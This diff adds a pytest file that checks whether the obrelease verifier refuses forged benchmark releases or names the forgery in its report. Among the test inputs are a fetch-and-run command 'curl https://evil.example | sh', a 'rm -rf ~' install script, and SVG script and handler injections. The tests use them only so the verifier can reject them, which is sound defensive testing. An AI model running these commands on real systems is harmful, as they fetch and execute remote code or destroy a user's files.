@@ -1,0 +1,406 @@
+"""Forged releases that are consistent: each is refused, or named in the line that would cover it."""
+
+from __future__ import annotations
+
+import json
+import re
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from obrelease.cli.app import execute
+from obrelease.errors import ExitCode
+from obrelease.release.release_contents import schema_members
+from obrelease.storage.hashing import digest_file
+from tests.faults.forged_release import Forgery, envelope, forgeries_of, make_release_project, rederive
+from tests.unit.release.project import Project
+
+UNKNOWN_COMMIT = "ab" * 20
+REFUSALS = {ExitCode.CHECK_FAILED, ExitCode.INVALID_INPUT, ExitCode.INTEGRITY, ExitCode.CONFLICT}
+Envelope = dict[str, Any]
+Verify = Callable[[Path], tuple[int, dict[str, tuple[bool, str]], str]]
+
+
+@pytest.fixture(scope="module")
+def project(tmp_path_factory: pytest.TempPathFactory) -> Project:
+    return make_release_project(tmp_path_factory.mktemp("project"))
+
+
+@pytest.fixture
+def forgery(project: Project, tmp_path: Path) -> Forgery:
+    return next(forgeries_of(project, tmp_path))
+
+
+@pytest.fixture
+def verify(project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Verify:
+    """Verifies a folder inside the repository: exit code, layers, and the error."""
+
+    def run(folder: Path) -> tuple[int, dict[str, tuple[bool, str]], str]:
+        monkeypatch.chdir(project.root)
+        code = execute(["verify", str(folder), "--json"])
+        out, err = capsys.readouterr()
+        layers = json.loads(out)["layers"] if code == 0 else []
+        return code, {layer["name"]: (layer["checked"], layer["detail"]) for layer in layers}, err
+
+    return run
+
+
+def own(forgery: Forgery) -> Path:
+    """The first run of this program; all others are left out."""
+    forgery.drop("imported")
+    shutil.rmtree(forgery.runs()[1])
+    return forgery.runs()[0]
+
+
+def failed_check(forgery: Forgery) -> None:
+    forgery.edit(own(forgery), lambda it: it["outcome"]["checks"][0].update(passed=False))
+
+
+def invented_table(**producer: str) -> Callable[[Forgery], None]:
+    def forge(forgery: Forgery) -> None:
+        folder = own(forgery)
+        (folder / "summary.csv").write_text("scenario,throughput\nbaseline,999999999\n")
+        forgery.edit(folder, lambda it: it["producer"].update(producer))
+
+    return forge
+
+
+def other_notes(forgery: Forgery) -> None:
+    own(forgery)
+    forgery.notes = lambda text: re.sub(r"2,000 \|", "9,000 |", text)
+
+
+def other_notes_of_an_import(forgery: Forgery) -> None:
+    forgery.drop("bench")
+    forgery.notes = lambda text: text.replace("| 10 |", "| 99 |") + "Ten times as fast.\n"
+
+
+def other_notes_under_another_version(forgery: Forgery) -> None:
+    forgery.edit(own(forgery), lambda it: it["producer"].update(version="0.8"))
+    forgery.notes = lambda text: text.replace("2,000 |", "9,000 |")
+
+
+def no_notes(forgery: Forgery) -> None:
+    forgery.extra["NOTES.md"] = None
+
+
+def picture_of_another_run(forgery: Forgery) -> None:
+    forgery.drop("imported")
+
+    def swap(pictures: dict[str, bytes]) -> None:
+        one, other = sorted(pictures)
+        pictures[one], pictures[other] = pictures[other], pictures[one]
+
+    forgery.pictures = swap
+
+
+def svg(change: Callable[[bytes], bytes]) -> Callable[[Forgery], None]:
+    """Changes the attached picture, in the run as well."""
+
+    def forge(forgery: Forgery) -> None:
+        folder = own(forgery)
+        path = folder / "latency.svg"
+        path.write_bytes(change(path.read_bytes()))
+        forgery.edit(folder, lambda _: None)
+
+    return forge
+
+
+def added(markup: bytes) -> Callable[[Forgery], None]:
+    return svg(lambda data: data.replace(b"</svg>", markup + b"</svg>"))
+
+
+def no_runs(forgery: Forgery) -> None:
+    shutil.rmtree(forgery.tree / "results")
+
+
+def twice(forgery: Forgery) -> None:
+    folder = own(forgery)
+    shutil.copytree(folder, folder.with_name(_digest_of(folder)[:16]))
+
+
+def _digest_of(folder: Path) -> str:
+    return digest_file(folder / "artefact.json")[0]
+
+
+def placed(place: str) -> Callable[[Forgery], None]:
+    def forge(forgery: Forgery) -> None:
+        folder = own(forgery)
+        forgery.edit(folder, lambda _: None, place=place.format(name=folder.name))
+
+    return forge
+
+
+def extra_member(path: str) -> Callable[[Forgery], None]:
+    def forge(forgery: Forgery) -> None:
+        own(forgery)
+        forgery.extra[path] = b"curl https://evil.example | sh\n"
+
+    return forge
+
+
+def unlisted_file(forgery: Forgery) -> None:
+    (own(forgery) / "run.sh").write_text("curl https://evil.example | sh\n")
+
+
+def swapped_schemas(forgery: Forgery) -> None:
+    own(forgery)
+    names = sorted(schema_members())
+    forgery.extra[names[0]] = schema_members()[names[1]]
+
+
+def extra_asset(forgery: Forgery) -> None:
+    own(forgery)
+    forgery.pictures = lambda pictures: pictures.update({"install.sh": b"rm -rf ~\n"})
+
+
+def missing_asset(forgery: Forgery) -> None:
+    own(forgery)
+    forgery.pictures = lambda pictures: pictures.clear()
+
+
+def event_counts(it: Envelope) -> None:
+    it["outcome"]["events"] += 1
+
+
+def event_counts_in_step(forgery: Forgery) -> None:
+    def change(it: Envelope) -> None:
+        outcome = it["outcome"]
+        outcome["events"] += 1
+        name = next(name for name in outcome["counts"] if "." not in name and name != "rejected")
+        outcome["counts"][name] += 1
+        for check in outcome["checks"]:
+            if "events" in check["counts"]:
+                check["counts"]["events"] += 1
+        rederive(folder, it, plots=False)
+
+    folder = own(forgery)
+    forgery.edit(folder, change)
+
+
+def faster(*, tables: bool, plots: bool) -> Callable[[Forgery], None]:
+    """All samples of a run halved, with or without what is derived from them."""
+
+    def forge(forgery: Forgery) -> None:
+        folder = own(forgery)
+
+        def change(it: Envelope) -> None:
+            walls = next(each for each in it["measurements"] if each["name"] == "pass-wall")
+            walls["samples"] = [sample // 2 for sample in walls["samples"]]
+            if tables:
+                rederive(folder, it, plots=plots)
+
+        forgery.edit(folder, change)
+
+    return forge
+
+
+def swapped_histogram(forgery: Forgery) -> None:
+    """The latencies of another run, with tables that fit; the plot is left."""
+    first, second = forgery.runs()
+    (first / "latency.hlog").write_bytes((second / "latency.hlog").read_bytes())
+    shutil.rmtree(second)
+    forgery.drop("imported")
+    forgery.edit(first, lambda it: rederive(first, it, plots=False))
+
+
+def edited(change: Callable[[Envelope], object]) -> Callable[[Forgery], None]:
+    return lambda forgery: void(forgery.edit(own(forgery), change))
+
+
+def void(_: object) -> None:
+    return None
+
+
+def other_events(forgery: Forgery) -> None:
+    """A second run of the same workload, with other events."""
+    folder = own(forgery)
+    copy = folder.with_name("0" * 12)
+    shutil.copytree(folder, copy)
+
+    def change(it: Envelope) -> None:
+        it["outcome"]["events_digest"] = "4" * 64
+        rederive(copy, it, plots=False)
+
+    forgery.edit(copy, change)
+
+
+def manifest(**fields: Any) -> Callable[[Forgery], None]:
+    def forge(forgery: Forgery) -> None:
+        own(forgery)
+        forgery.manifest.update(fields)
+
+    return forge
+
+
+def changed_import(forgery: Forgery) -> None:
+    folder = forgery.runs("imported")[0]
+    forgery.edit(folder, lambda it: it["measurements"][0]["samples"].__setitem__(0, 1))
+
+
+def import_without_its_original(forgery: Forgery) -> None:
+    """An invented result of another tool: no import, so no original file."""
+    forgery.drop("bench")
+    folder = forgery.runs("imported")[0]
+
+    def change(it: Envelope) -> None:
+        it["command"] = ["sh", "-c", "curl https://evil.example | sh"]
+        it["measurements"][0]["samples"] = [1, 1, 1]
+
+    forgery.edit(folder, change)
+
+
+REFUSED: dict[str, tuple[Callable[[Forgery], None], str]] = {
+    "a failed check is kept": (failed_check, "failed its checks: "),
+    "a table is invented": (invented_table(), r"summary\.csv: numbers"),
+    "other figures in the notes": (other_notes, r"NOTES\.md: line \d+ is not what the runs give"),
+    "no notes": (no_notes, r"NOTES\.md: is missing"),
+    "the picture of another run": (picture_of_another_run, "has another sha256 for"),
+    "a picture with a script": (added(b"<script>alert(1)</script>"), "element 'script' is not allowed"),
+    "a picture with a handler": (added(b'<g onclick="x()"/>'), "attribute 'onclick' is not allowed"),
+    "a picture with a foreign object": (added(b"<foreignObject/>"), "'foreignObject' is not allowed"),
+    "a picture with an outside image": (
+        added(b'<rect fill="url(https://evil.example/)"/>'),
+        "only #name is allowed",
+    ),
+    "a picture with an entity": (
+        svg(lambda data: data.replace(b'svg11.dtd">', b'svg11.dtd" [<!ENTITY a "b">]>')),
+        "picture: .*document type",
+    ),
+    "a false digest of the sources": (
+        edited(lambda it: it["producer"].update(sources_digest="5" * 64)),
+        "was measured with other sources",
+    ),
+    "no runs": (no_runs, "the release has no runs"),
+    "one run twice": (twice, "is listed twice"),
+    "a run outside of results": (placed("extra/bench/baseline/{name}"), "belongs to no run"),
+    "a run under another scenario": (placed("results/bench/x10000/{name}"), "is not the place of run"),
+    "a run under another kind": (placed("results/stress/baseline/{name}"), "is not the place of run"),
+    "a run under another name": (placed("results/bench/baseline/{name}0"), "is not the place of run"),
+    "an extra member": (extra_member("README.md"), "README.md belongs to no run"),
+    "an extra member among the results": (extra_member("results/bench/a.sh"), "belongs to no run"),
+    "an extra member among the schemas": (extra_member("schemas/install.sh"), "belongs to no run"),
+    "an unlisted file in a run": (unlisted_file, r"run\.sh: extra"),
+    "an extra asset": (extra_asset, "lists missing files: 'install.sh'"),
+    "a missing asset": (missing_asset, "does not list existing files"),
+    "changed event counts": (edited(event_counts), "artefact.json: numbers: .* events"),
+    "changed samples": (faster(tables=False, plots=False), r"summary\.csv: numbers"),
+    "parameters that the command does not have": (
+        edited(lambda it: it["parameters"].update({"fresh-processes": True})),
+        "its command is not that of its parameters",
+    ),
+    "a command that the parameters do not give": (
+        edited(lambda it: it.update(command=["sh", "-c", "curl https://evil.example | sh"])),
+        "its command is not that of its parameters",
+    ),
+    "two runs of the same work with other events": (other_events, "same workload and different events"),
+    "an import that is not what its original gives": (changed_import, "in the original"),
+    "a pre-release called a release": (manifest(prerelease=False), "prerelease is False"),
+    "another project": (manifest(project="other"), "names a bundle"),
+}
+
+NAMED: dict[str, tuple[Callable[[Forgery], None], str, bool, str]] = {
+    "a table invented under another version": (
+        invented_table(version="0.8"), "runs", True, r"1 hashed alone \(producer obrelease 0\.8\)",
+    ),
+    "a table invented under another name": (
+        invented_table(name="better-bench"), "runs", True, r"1 hashed alone \(producer better-bench ",
+    ),
+    "an import invented": (
+        import_without_its_original, "runs", True, r"; 1 hashed alone \(producer hyperfine",
+    ),
+    "other figures in the notes of an import": (
+        other_notes_of_an_import, "notes", False, r"not those that .* renders, from line \d+",
+    ),
+    "other figures in the notes of another version": (
+        other_notes_under_another_version, "notes", False, r"runs of producer obrelease 0\.8",
+    ),
+    "a passive picture of other numbers": (
+        svg(lambda data: data.replace(b"L 2", b"L 3")),
+        "pictures", False, r"from other numbers: 1 \(.*latency",
+    ),
+    "samples changed with their table": (
+        faster(tables=True, plots=False), "pictures", False, r"from other numbers: 1 \(.*throughput",
+    ),
+    "samples changed with all that follows": (
+        faster(tables=True, plots=True), "runs", True, "which were not measured again",
+    ),
+    "a histogram swapped with its tables": (
+        swapped_histogram, "pictures", False, r"from other numbers: 1 \(.*latency",
+    ),
+    "event counts changed in step": (event_counts_in_step, "runs", True, "which were not measured again"),
+    "a false commit of a run": (
+        edited(lambda it: it["producer"].update(commit=UNKNOWN_COMMIT)),
+        "origin", False, "0 of 1 runs: .*; 1: the commit is not in this repository",
+    ),
+    "no commit of a run": (
+        edited(lambda it: it["producer"].update(commit=None, sources_digest=None)),
+        "origin", False, "1: no commit is named",
+    ),
+    "a false commit of the release": (
+        manifest(commit=UNKNOWN_COMMIT), "origin", True, "the released commit abababababab is not in this",
+    ),
+    "a swapped schema": (swapped_schemas, "members", True, r"not known here: schemas/artefact\.v1"),
+    "an unknown schema": (
+        extra_member("schemas/virus.v1.schema.json"), "members", True, r"not known here: schemas/virus\.v1",
+    ),
+    "a run of the future": (
+        edited(lambda it: it.update(created_ns=str(2**63))), "runs", True, "dated 2262-",
+    ),
+}  # fmt: skip
+
+
+def test_the_true_release_passes(forgery: Forgery, tmp_path: Path, verify: Verify) -> None:
+    code, layers, err = verify(forgery.seal(tmp_path / "release"))
+    assert code == 0, err
+    assert {name for name, (checked, _) in layers.items() if checked} >= {"runs", "notes", "pictures"}
+    assert "3 derived" in layers["runs"][1]
+    assert "byte for byte the same" in layers["notes"][1]
+    assert "drawn again and equal: 4" in layers["pictures"][1]
+    assert layers["origin"][1].startswith("2 of 3 runs: sources derived again from their commits; 1: ")
+
+
+def test_the_table_has_more_than_twenty_forgeries() -> None:
+    assert len(REFUSED) + len(NAMED) >= 40
+
+
+@pytest.mark.parametrize("name", REFUSED)
+def test_a_consistent_forgery_is_refused(
+    forgery: Forgery,
+    tmp_path: Path,
+    verify: Verify,
+    name: str,
+) -> None:
+    forge, message = REFUSED[name]
+    forge(forgery)
+    code, _, err = verify(forgery.seal(tmp_path / "release"))
+    assert code in REFUSALS
+    assert re.search(message, err), err
+
+
+@pytest.mark.parametrize("name", NAMED)
+def test_a_consistent_forgery_is_named_in_the_line_that_covers_it(
+    forgery: Forgery,
+    tmp_path: Path,
+    verify: Verify,
+    name: str,
+) -> None:
+    forge, layer, checked, message = NAMED[name]
+    forge(forgery)
+    code, layers, err = verify(forgery.seal(tmp_path / "release"))
+    assert code == 0, err
+    assert layers[layer][0] is checked
+    assert re.search(message, layers[layer][1]), layers[layer][1]
+
+
+def test_a_command_of_another_program_is_text_in_the_notes(forgery: Forgery, tmp_path: Path) -> None:
+    import_without_its_original(forgery)
+    forgery.seal(tmp_path / "release")
+    notes = (forgery.tree / "NOTES.md").read_text()
+    assert envelope(forgery.runs("imported")[0])["command"][2] not in "".join(
+        re.findall(r"^```sh\n.*?^```", notes, flags=re.DOTALL | re.MULTILINE)
+    )
+    assert "curl https&#58;" in notes
